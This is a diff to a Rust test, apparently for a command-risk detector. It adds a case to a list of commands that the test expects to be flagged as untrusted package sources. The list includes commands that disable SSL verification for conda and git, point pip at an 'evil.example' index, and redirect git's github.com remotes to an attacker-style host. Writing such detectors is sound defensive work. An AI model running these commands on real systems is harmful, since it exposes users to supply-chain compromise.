@@ -1154,6 +1154,7 @@ fn package_sources_redirected_or_unverified() {
         "conda config --set ssl_verify false",
         "git -c http.sslVerify=false clone https://git.example.org/acme/app.git",
         "pip config set global.index-url https://pypi.evil.example/simple",
+        "git config --global url.git@git.evil.example:.insteadOf git@github.com:",
     ] {
         assert_risk(command, UntrustedPackageSource);
     }
